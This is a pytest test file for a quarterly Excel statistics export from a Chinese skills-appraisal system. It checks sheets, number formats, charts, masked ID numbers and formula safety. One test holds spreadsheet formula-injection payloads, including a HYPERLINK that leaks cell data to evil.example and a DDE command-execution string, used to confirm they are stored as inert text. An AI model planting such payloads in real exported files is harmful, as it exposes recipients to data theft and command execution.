"""STAT-1: the quarter's Excel workbook: a sheet per breakdown with totals, formats, frozen headers,
a native chart on the summary sheet, a streamed detail sheet, and no formula anywhere."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from stats import exports
from tests.stats_outputs.sample import figures

HOSTILE = ['=HYPERLINK("http://evil.example/?"&D2,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _book(content):
    return load_workbook(io.BytesIO(content))


def _detail_rows(count, label="电工"):
    for n in range(count):
        yield (f"A{n:06d}", "王考生", "220122199001011234", "农安县职业技能鉴定所", label, "四级/中级工", "日常鉴定",
               "企业职工", "否", "审核通过", "合格", f"2622{n:010d}", "已发放", 150.0, "是")


def test_stat1_workbook_has_summary_and_a_sheet_per_breakdown():
    """STAT-1: summary, one sheet per breakdown, each with its rows and a 合计 row from the totals."""
    book = _book(exports.quarter_workbook(figures()))
    assert book.sheetnames == ["汇总", "按等级", "按职业", "按鉴定类别", "按考生类别", "按机构"]
    sheet = book["按等级"]
    assert sheet.freeze_panes == "B4"
    assert [c.value for c in sheet[3]][:3] == ["名称", "申报受理人数", "审核通过人数"]
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    assert [r[0] for r in rows] == ["五级/初级工", "四级/中级工", "三级/高级工", "合计"]
    appraised = exports.FIGURE_KEYS.index("appraised") + 1
    assert rows[-1][appraised] == 120 == sum(r[appraised] for r in rows[:-1])
    rate = exports.FIGURE_KEYS.index("pass_rate") + 1
    assert rows[0][rate] == pytest.approx(0.9)
    assert sheet.cell(4, rate + 1).number_format == exports.PERCENT_FORMAT
    fees = exports.FIGURE_KEYS.index("fees_paid") + 1
    assert sheet.cell(4, fees + 1).number_format == exports.MONEY_FORMAT
    assert sheet.cell(4, appraised + 1).number_format == exports.COUNT_FORMAT
    assert sheet.column_dimensions["A"].width == 24
    summary = book["汇总"]
    assert summary.freeze_panes == "A4"
    values = {r[0]: r[1] for r in summary.iter_rows(min_row=4, max_row=3 + len(exports.FIGURE_KEYS), values_only=True)}
    assert values["参加鉴定人数"] == 120 and values["鉴定合格率"] == pytest.approx(92 / 120)
    assert values["实收鉴定费（元）"] == 12000.0


def test_stat1_summary_holds_a_native_bar_chart():
    """STAT-1: the summary sheet holds native Excel charts (chart parts, not pictures)."""
    content = exports.quarter_workbook(figures())
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        charts = [n for n in names if n.startswith("xl/charts/chart")]
        assert len(charts) == 2
        chart_xml = archive.read(charts[0]).decode()
        assert "<barChart>" in chart_xml and "'汇总'!$B$" in chart_xml
        assert not [n for n in names if n.startswith("xl/media/")]  # no pictures
        drawing_rels = archive.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
        assert "drawing" in drawing_rels


def test_stat1_no_cell_holds_a_formula_whatever_the_labels_and_details():
    """STAT-1 (reliability): labels and detail values that look like formulas are stored as text."""
    hostile = figures(occupations=[(i, text, 10 + i, 5) for i, text in enumerate(HOSTILE)])
    hostile["center"]["name"] = "=cmd|' /C calc'!A0"
    details = [(f"A{n}", text, "", text, text, "四级", "日常鉴定", "其他", "否", "审核通过", "", "", "", 1.0, "否")
               for n, text in enumerate(HOSTILE)]
    content = exports.quarter_workbook(hostile, details=details, detail_count=len(details))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in archive.read(name).decode(), name
    book = _book(content)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                # XML reads a carriage return back as a line feed
                value = "\r" + cell.value[1:] if isinstance(cell.value, str) and cell.value[:1] == "\n" else cell.value
                if isinstance(value, str) and value in HOSTILE:
                    assert cell.quotePrefix
                    seen.add(value)
    assert seen == set(HOSTILE)
    occupation_labels = [r[0] for r in book["按职业"].iter_rows(min_row=4, values_only=True)]
    assert occupation_labels[:len(HOSTILE) - 1] == HOSTILE[:-1]


def test_stat1_detail_sheet_streams_rows_with_masked_id_numbers_and_progress():
    """STAT-1: the detail sheet: numbered rows, frozen header, ID numbers masked, progress told."""
    told = []
    content = exports.quarter_workbook(figures(), details=_detail_rows(250), detail_count=250,
                                       progress=lambda done, total: told.append((done, total)))
    sheet = _book(content)["明细"]
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == exports.DETAIL_HEADERS
    assert len(rows) == 251 and rows[-1][0] == 250
    assert rows[1][3] != "220122199001011234" and rows[1][3].startswith("2201")
    assert told[-1] == (250, 250) and len(told) == 250


def test_stat1_empty_quarter_writes_a_workbook_without_charts():
    """STAT-1: a center with nothing in the quarter still gets its workbook (totals, no charts)."""
    empty = figures(levels=[], occupations=[])
    empty["trend"] = []
    content = exports.quarter_workbook(empty)
    book = _book(content)
    assert [r[0] for r in book["按职业"].iter_rows(min_row=4, values_only=True)] == ["合计"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [n for n in archive.namelist() if n.startswith("xl/charts/")]
    assert exports.file_name(empty) == "统计_长春市职业技能鉴定中心_2026年第3季度.xlsx"
